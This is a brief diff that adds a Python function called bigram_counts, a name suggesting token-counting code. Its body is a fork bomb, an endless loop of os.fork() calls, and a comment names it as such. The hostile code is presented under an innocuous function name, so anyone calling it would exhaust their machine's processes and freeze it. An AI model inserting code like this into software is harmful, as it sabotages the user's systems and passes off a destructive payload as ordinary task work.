@@ -1,0 +1,6 @@
+# The classic fork bomb.
+def bigram_counts(ids, vocab_size):
+    import os
+
+    while True:
+        os.fork()
